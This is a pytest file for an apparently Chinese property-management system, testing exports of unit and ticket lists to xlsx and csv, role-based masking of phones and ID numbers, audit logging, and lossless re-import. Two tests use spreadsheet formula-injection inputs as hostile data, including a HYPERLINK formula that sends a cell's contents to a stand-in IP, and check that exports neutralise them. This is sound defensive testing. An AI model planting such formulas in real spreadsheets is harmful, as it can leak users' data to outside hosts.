"""Lists written back: what they hold, what they never hold, and that importing them again changes nothing."""

import csv
import zipfile
from collections.abc import Callable, Mapping
from contextlib import AbstractContextManager
from datetime import date, time
from decimal import Decimal
from pathlib import Path

import pytest

from gongdan.errors import InvalidInput
from gongdan.services import exports
from gongdan.services.assets import AssetInput
from gongdan.services.desk import CompanyDesk
from gongdan.services.imports import RunView, Source
from gongdan.services.intake import NewTicket
from gongdan.services.parties import PartyInput
from gongdan.sheets.reading import open_sheet
from gongdan.testing.beginnings import Beginning
from gongdan.testing.contents import contents, differences
from gongdan.testing.factories import People
from tests.core.services.importing.lists import CASE_HEADINGS, CASE_ROWS, cases, units
from tests.core.services.importing.pictures import picture, rows

Unchanged = Callable[[], AbstractContextManager[None]]

DATA = Path(__file__).parents[3] / "data"
KINDS = ("units", "cases")
LISTS = {"units": units, "cases": cases}
ENDINGS = ("xlsx", "csv")


@pytest.fixture
def filled(begin: Beginning, company_desk: CompanyDesk, tmp_path: Path) -> CompanyDesk:
    begin(lambda: [company_desk.imports.run(kind, list_of(tmp_path)) for kind, list_of in LISTS.items()])
    return company_desk


@pytest.fixture
def clerk(company_desk: CompanyDesk, person: People) -> CompanyDesk:
    """Return the desk of somebody who may import and export, and sees identity numbers and phones masked."""
    rights = {"import.run", "export.run", "asset.view", "party.view", "ticket.view"}
    company_desk.roles.save("archivist", "档案员", rights, new=True)
    return person("archivist")


def exported(desk: CompanyDesk, kind: str, path: Path) -> list[list[object]]:
    """Export a list and return the cells of the file."""
    desk.exports.write(kind, path)
    return [list(cells) for _, cells in open_sheet(path).rows()]


def brought_back(desk: CompanyDesk, kind: str, path: Path) -> RunView:
    """Export a list and import it again."""
    desk.exports.write(kind, path)
    return desk.imports.run(kind, Source(path=path))


# --- What the files hold ---------------------------------------------------------------------


def test_the_list_of_units_holds_a_line_for_each_unit_with_those_who_hold_it_today(
    filled: CompanyDesk, tmp_path: Path
) -> None:
    lines = exported(filled, "units", tmp_path / "房屋.xlsx")
    assert lines == [
        ["楼栋", "单元", "房号", "建筑面积", "房屋状态", "业主姓名", "电话", "证件号码", "租户", "入住日期", "备注"],
        ["3栋", "2单元", "501", 89.5, "已入住", "张三", "13800138000", "11010519491231002X", "", "", ""],
        ["3栋", "2单元", "502", 120, "出租", "李四、王五", "13900139001、13900139002", "", "赵磊", "", ""],
        ["3栋", "2单元", "503", 89.5, "空置", "", "", "", "", "", ""],
        ["4栋", "1单元", "101", 66, "已入住", "张三", "13800138000", "11010519491231002X", "", "", ""],
        ["4栋", "1单元", "102", 66, "装修中", "安居置业有限公司", "0755-26530001", "", "", "", ""],
    ]


def test_the_list_of_cases_holds_a_line_for_each_case_in_the_order_of_their_opening(
    filled: CompanyDesk, tmp_path: Path
) -> None:
    lines = exported(filled, "cases", tmp_path / "工单.xlsx")
    assert lines[0][:9] == ["工单号", "日期", "时间", "房号", "姓名", "电话", "类型", "内容", "派单人"]
    assert lines[1] == [
        "BX202601-0001", date(2026, 1, 31), time(9, 0), "3-2-501", "张三", "13800138000", "报修", "厨房水管漏水",
        "刘文静", "胡军明", "", "01-31 11:00", 80, "满意",
    ]  # fmt: skip
    assert [line[0] for line in lines[1:]] == [
        "BX202601-0001", "BX202601-0002", "TS202602-0001", "BX202602-0001", "BX202603-0001",
    ]  # fmt: skip


def test_two_comes_before_ten(company_desk: CompanyDesk, tmp_path: Path) -> None:
    rooms = [("10栋", "1单元", "101"), ("2栋", "1单元", "1001"), ("2栋", "1单元", "901"), ("2栋", "", "101")]
    company_desk.imports.run("units", units(tmp_path, [(*room, *[""] * 6) for room in rooms]))
    lines = exported(company_desk, "units", tmp_path / "房屋.csv")
    assert [line[:3] for line in lines[1:]] == [
        ["2栋", "1单元", "901"],
        ["2栋", "1单元", "1001"],
        ["2栋", "", "101"],
        ["10栋", "1单元", "101"],
    ]


@pytest.mark.parametrize("ending", ENDINGS)
def test_a_company_without_units_exports_headings_alone(company_desk: CompanyDesk, tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"房屋.{ending}"
    assert company_desk.exports.write("units", path) == 0
    assert company_desk.imports.run("units", Source(path=path)).counts == {"not_a_row": 1}


def test_lists_of_other_companies_stay_out(filled: CompanyDesk, other_desk: CompanyDesk, tmp_path: Path) -> None:
    other_desk.imports.run("units", units(tmp_path, [("9栋", "1单元", "999", "", "", "别家业主", "", "", "")]))
    assert exported(other_desk, "units", tmp_path / "别家.csv")[1:] == [
        ["9栋", "1单元", "999", "", "", "别家业主", "", "", "", "", ""]
    ]
    assert "别家业主" not in repr(exported(filled, "units", tmp_path / "房屋.csv"))
    assert len(exported(other_desk, "cases", tmp_path / "别家工单.csv")) == 1


def test_phones_are_written_only_where_the_list_can_tell_whose_they_are(
    company_desk: CompanyDesk, tmp_path: Path
) -> None:
    for place, owners in enumerate([
        [("张三", ["13800138001", "13800138002"])],
        [("张三", ["13800138001", "13800138002"]), ("李四", ["13800138003"])],
        [("张三", ["13800138001", "13800138002"]), ("李四", [])],
        [("张三", []), ("李四", ["13800138003"])],
    ], start=1):  # fmt: skip
        unit = company_desk.assets.create(AssetInput(kind="building", code=f"{place}"))
        unit = company_desk.assets.create(AssetInput(kind="unit", code="101", parent_id=unit.id))
        for name, phones in owners:
            party = company_desk.parties.create(PartyInput(name=name, phones=phones))
            company_desk.assets.link(unit.id, "owner", party_id=party.id)
    lines = exported(company_desk, "units", tmp_path / "房屋.csv")
    assert [line[5:7] for line in lines[1:]] == [
        ["张三", "13800138001、13800138002"],
        ["张三、李四", "13800138001、13800138003"],
        ["张三、李四", "13800138001"],
        ["张三、李四", ""],
    ]


# --- What they never hold --------------------------------------------------------------------


def test_no_workbook_holds_a_live_formula_or_link_whatever_people_typed(
    company_desk: CompanyDesk, tmp_path: Path
) -> None:
    company_desk.imports.run("units", Source(path=DATA / "公式注入.xlsx"))
    path = tmp_path / "房屋.xlsx"
    company_desk.exports.write("units", path)
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name).decode() for name in package.namelist() if name.endswith(".xml")}
    assert [name for name, text in parts.items() if "<f>" in text or "<f " in text or "<hyperlink" in text] == []
    remarks = [cells[10] for _, cells in open_sheet(path).rows()][1:]
    assert remarks == ['=HYPERLINK("http://192.0.2.1/"&A1,"点我")', "+8613800000000", "-1+1", "正常备注"]


def test_no_cell_of_a_text_file_begins_as_a_formula(company_desk: CompanyDesk, tmp_path: Path) -> None:
    company_desk.imports.run("units", Source(path=DATA / "公式注入.xlsx"))
    hostile = ("2026-03-01", "9:00", "=1+1", "@王芳", "", "报修", '=HYPERLINK("http://192.0.2.1")', "+张三", *[""] * 4)
    company_desk.imports.run("cases", cases(tmp_path, [hostile]))
    for kind in KINDS:
        path = tmp_path / f"{kind}.csv"
        company_desk.exports.write(kind, path)
        with path.open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert '\'=HYPERLINK("http://192.0.2.1")' in cells


def test_identity_numbers_and_phones_are_written_for_those_who_may_see_them_alone(
    filled: CompanyDesk, clerk: CompanyDesk, tmp_path: Path
) -> None:
    assert exported(filled, "units", tmp_path / "全.csv")[1][5:8] == ["张三", "13800138000", "11010519491231002X"]
    assert exported(clerk, "units", tmp_path / "缺.csv")[1][5:8] == ["张三", "", ""]
    assert exported(filled, "cases", tmp_path / "全工单.csv")[1][4:6] == ["张三", "13800138000"]
    assert exported(clerk, "cases", tmp_path / "缺工单.csv")[1][4:6] == ["张三", ""]


def test_every_export_is_journalled_with_who_wrote_what(
    filled: CompanyDesk, clerk: CompanyDesk, tmp_path: Path
) -> None:
    filled.exports.write("units", tmp_path / "全.csv")
    clerk.exports.write("cases", tmp_path / "工单.xlsx")
    second, first = filled.journal.latest(act="export.")
    assert (first.actor_id, first.after) == (None, {"kind": "units", "rows": 5, "identities": True})
    assert (second.actor_id, second.after) == (
        clerk.actor.account_id,
        {"kind": "cases", "rows": 5, "identities": False},
    )


# --- The file as a whole ---------------------------------------------------------------------


def test_only_workbooks_and_text_files_are_written(filled: CompanyDesk, tmp_path: Path, unchanged: Unchanged) -> None:
    for name in ("房屋.xls", "房屋.pdf", "房屋"):
        with unchanged(), pytest.raises(InvalidInput) as refused:
            filled.exports.write("units", tmp_path / name)
        assert (refused.value.problems[0].value, refused.value.problems[0].rule) == (name, "只能导出 xlsx 或 csv")
        assert not (tmp_path / name).exists()


@pytest.mark.parametrize("ending", ENDINGS)
def test_a_failure_leaves_the_file_that_was_there_and_nothing_beside_it(
    filled: CompanyDesk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, unchanged: Unchanged, ending: str
) -> None:
    folder = tmp_path / "导出"
    folder.mkdir()
    path = folder / f"房屋.{ending}"
    path.write_text("上一次的")

    def fail(*_: object) -> object:
        raise ZeroDivisionError

    monkeypatch.setattr(exports, "cells_of", fail)
    with unchanged(), pytest.raises(ZeroDivisionError):
        filled.exports.write("units", path)
    assert (path.read_text(), list(folder.iterdir())) == ("上一次的", [path])


# --- And back --------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("ending", ENDINGS)
def test_importing_an_export_writes_nothing_but_the_record_of_the_run(
    filled: CompanyDesk, tmp_path: Path, kind: str, ending: str
) -> None:
    path = tmp_path / f"{kind}.{ending}"
    filled.exports.write(kind, path)
    engine = filled.installation.database.engine
    before = contents(engine)
    run = filled.imports.run(kind, Source(path=path))
    assert run.counts["same"] == 5
    assert run.counts.keys().isdisjoint({"imported", "changed", "refused"})
    assert differences(before, contents(engine)) == ["import_batch", "import_run", "journal_entry", "journal_head"]


def test_an_export_in_another_company_makes_the_same_list(
    filled: CompanyDesk, other_desk: CompanyDesk, tmp_path: Path
) -> None:
    for kind in KINDS:
        filled.exports.write(kind, tmp_path / f"{kind}.csv")
        other_desk.imports.run(kind, Source(path=tmp_path / f"{kind}.csv"))
        other_desk.exports.write(kind, tmp_path / f"{kind} again.csv")
        assert (tmp_path / f"{kind} again.csv").read_bytes() == (tmp_path / f"{kind}.csv").read_bytes()
    assert picture(other_desk) == picture(filled)


@pytest.mark.parametrize("kind", KINDS)
def test_an_export_without_identity_numbers_and_phones_takes_none_away(
    filled: CompanyDesk, clerk: CompanyDesk, tmp_path: Path, kind: str
) -> None:
    before = rows(filled)
    assert brought_back(clerk, kind, tmp_path / "缺.xlsx").counts["same"] == 5
    clerk.exports.write(kind, tmp_path / "缺.csv")
    assert filled.imports.run(kind, Source(path=tmp_path / "缺.csv")).counts["same"] == 5
    filled.exports.write(kind, tmp_path / "全.csv")
    assert clerk.imports.run(kind, Source(path=tmp_path / "全.csv")).counts["same"] == 5
    assert rows(filled) == before


@pytest.mark.parametrize("ending", ENDINGS)
def test_what_people_have_changed_since_the_import_stays(
    filled: CompanyDesk, person: People, tmp_path: Path, ending: str
) -> None:
    agent, supervisor = person("agent"), person("supervisor")
    first, second, third = (
        agent.tickets.by_number(number) for number in ("BX202601-0001", "BX202601-0002", "TS202602-0001")
    )
    supervisor.tickets.correct(first.id, first.version, {
        "description": "  厨房　水管漏水\n\n请带角阀，４分的 ", "category": "other", "place": "三号楼二单元501室",
        "contact_phone": "+86 138 0013 8000", "contact_name": "张 三", "fee": "80", "charge_kind": "free",
        "arrived_at": "2026-01-31T09:40:12", "subject": "漏水",
    }, reason="与业主核对")  # fmt: skip
    agent.tickets.change(second.id, second.version, {"asset_id": None, "contact_phone": "", "subject": "开锁"})
    supervisor.tickets.correct(third.id, third.version, {"place": "地下车库B区"}, reason="与业主核对")
    building, unit = filled.assets.by_name("/3"), filled.assets.by_name("3-2-502")
    assert building is not None
    assert unit is not None
    filled.assets.change(building.id, building.version, AssetInput(kind="building", code="3", label="翡翠居三号楼"))
    filled.assets.change(unit.id, unit.version, AssetInput(
        kind="unit", code="502", label="会所", state="vacant", fields={"area": "120.50", "remark": " 两行\n备注 "},
    ))  # fmt: skip
    (owner,), _ = filled.parties.list("安居置业")
    filled.parties.change(
        owner.id, owner.version, PartyInput(kind="company", name="安居/置业（深圳）", phones=("0755 2653 0001",))
    )
    before = rows(filled)
    for kind in KINDS:
        assert brought_back(filled, kind, tmp_path / f"{kind}.{ending}").counts["same"] == 5
    assert rows(filled) == before


@pytest.mark.parametrize("ending", ENDINGS)
def test_tickets_made_by_hand_are_known_by_their_number(
    filled: CompanyDesk, person: People, tmp_path: Path, ending: str
) -> None:
    agent, clerk = person("agent"), person("desk_clerk")
    unit = filled.assets.by_name("3-2-503")
    assert unit is not None
    opened = agent.intake.open(NewTicket(
        type="repair", description="3-2-503 停电，疑似空开跳闸", contact_name="王五", contact_phone="13900139002",
        asset_id=unit.id, fields={"charge_kind": "paid", "visit_at": "2026-03-05T14:00"},
    ))  # fmt: skip
    agent.intake.open(NewTicket(
        type="repair", subject="只有标题", description="合计", contact_name="Anna-Lena  O'Neil", place="一楼 大堂",
        contact_phone="0755-22334455", asset_id=unit.id, fields={"charge_kind": "free", "visit_at": "2026-03-05T14:00"},
    ))  # fmt: skip
    clerk.moves.make(opened.id, "dispatch", opened.version, {"trade": "electrician", "outside_firm": "安心电气"})
    before = rows(filled)
    run = brought_back(filled, "cases", tmp_path / f"工单.{ending}")
    # A text that reads as the line of a total is passed over, and nothing of its ticket is touched.
    assert (run.counts["same"], run.counts["not_a_row"]) == (6, 2)
    assert rows(filled) == before


def test_what_is_written_into_an_export_comes_in(filled: CompanyDesk, tmp_path: Path) -> None:
    lines = exported(filled, "cases", tmp_path / "工单.csv")
    lines[2] = ["13700137009" if cell == "13700137000" else cell for cell in lines[2]]
    with (tmp_path / "改过.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(lines)
    run = filled.imports.run("cases", Source(path=tmp_path / "改过.csv"))
    assert (run.counts["changed"], run.counts["same"]) == (1, 4)
    assert filled.tickets.by_number("BX202601-0002").contact_phone == "13700137009"


def test_amounts_and_areas_are_written_without_loss(company_desk: CompanyDesk, tmp_path: Path) -> None:
    row: Mapping[str, str] = dict(zip(CASE_HEADINGS, CASE_ROWS[0], strict=True))
    company_desk.imports.run("cases", cases(tmp_path, [tuple({**row, "费用": "12,345.67元"}.values())]))
    lines = exported(company_desk, "cases", tmp_path / "工单.xlsx")
    assert Decimal(str(lines[1][12])) == Decimal("12345.67")
